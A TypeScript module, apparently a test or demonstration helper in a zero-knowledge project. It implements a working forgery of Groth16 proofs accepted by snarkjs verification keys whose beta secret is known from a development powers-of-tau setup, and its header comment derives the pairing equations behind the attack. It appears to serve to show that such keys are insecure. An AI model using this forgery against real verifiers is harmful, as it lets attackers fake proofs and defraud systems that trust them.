/**
 * The forged-proof attack on a Groth16 key whose beta is known (every key set up on the development
 * powers of tau: beta follows from the published seed). snarkjs sets gamma = G2's generator, so with
 * IC = IC_0 + sum s_i IC_i for the chosen public signals s and P = beta^-1 * IC:
 *
 *   A = alpha_1 + P,  B = beta_2 + delta_2,  C = alpha_1 + P
 *   e(A, B) = e(alpha_1, beta_2) * e(P, beta_2) * e(A, delta_2) = e(alpha_1, beta_2) * e(IC, gamma_2) * e(C, delta_2)
 *
 * which is the verifier's equation. Only public points of the verification key and the scalar beta are
 * used: delta (the phase-2 secret) plays no part, so no phase-2 ceremony saves a key made on a known
 * phase 1.
 */
import { bn254, type Groth16VerificationKey } from '../../../ceremony/development-key.ts';

/** BN254's scalar field order. */
const FR_ORDER = 21888242871839275222246405745257275088548364400416034343698204186575808495617n;

function modInverse(value: bigint, modulus: bigint): bigint {
  let [oldR, r] = [((value % modulus) + modulus) % modulus, modulus];
  let [oldS, s] = [1n, 0n];
  while (r !== 0n) {
    const q = oldR / r;
    [oldR, r] = [r, oldR - q * r];
    [oldS, s] = [s, oldS - q * s];
  }
  if (oldR !== 1n) throw new Error('not invertible');
  return ((oldS % modulus) + modulus) % modulus;
}

type Group = {
  g: Uint8Array;
  zero: Uint8Array;
  add(a: Uint8Array, b: Uint8Array): Uint8Array;
  timesScalar(p: Uint8Array, s: bigint): Uint8Array;
  toAffine(p: Uint8Array): Uint8Array;
  fromObject(o: unknown): Uint8Array;
  toObject(p: Uint8Array): unknown;
  eq(a: Uint8Array, b: Uint8Array): boolean;
};

const big = (value: unknown): unknown => (Array.isArray(value) ? value.map(big) : BigInt(value as string));
const text = (value: unknown): unknown => (Array.isArray(value) ? value.map(text) : String(value));

/** A snarkjs Groth16 proof object. */
export interface Groth16Proof {
  pi_a: string[];
  pi_b: string[][];
  pi_c: string[];
  protocol: 'groth16';
  curve: 'bn128';
}

/**
 * Builds a proof that `verificationKey` accepts for any `publicSignals`, knowing only `beta`.
 * Throws when beta * G2 is not the key's vk_beta_2 (wrong toxic waste).
 */
export async function forgeProof(
  verificationKey: Groth16VerificationKey,
  beta: bigint,
  publicSignals: readonly bigint[],
): Promise<Groth16Proof> {
  const curve = (await bn254()) as unknown as { G1: Group; G2: Group };
  const { G1, G2 } = curve;
  const beta2 = G2.fromObject(big(verificationKey.vk_beta_2));
  if (!G2.eq(G2.timesScalar(G2.g, beta), beta2)) throw new Error('beta does not match the key');
  const gamma2 = G2.fromObject(big(verificationKey.vk_gamma_2));
  if (!G2.eq(gamma2, G2.g)) throw new Error('this attack needs gamma = G2 generator (snarkjs keys)');
  let ic = G1.fromObject(big(verificationKey.IC[0]));
  publicSignals.forEach((signal, i) => {
    ic = G1.add(ic, G1.timesScalar(G1.fromObject(big(verificationKey.IC[i + 1])), signal % FR_ORDER));
  });
  const p = G1.timesScalar(ic, modInverse(beta, FR_ORDER));
  const a = G1.add(G1.fromObject(big(verificationKey.vk_alpha_1)), p);
  const b = G2.add(beta2, G2.fromObject(big(verificationKey.vk_delta_2)));
  const affineA = text(G1.toObject(G1.toAffine(a))) as string[];
  return {
    pi_a: affineA,
    pi_b: text(G2.toObject(G2.toAffine(b))) as string[][],
    pi_c: affineA,
    protocol: 'groth16',
    curve: 'bn128',
  };
}
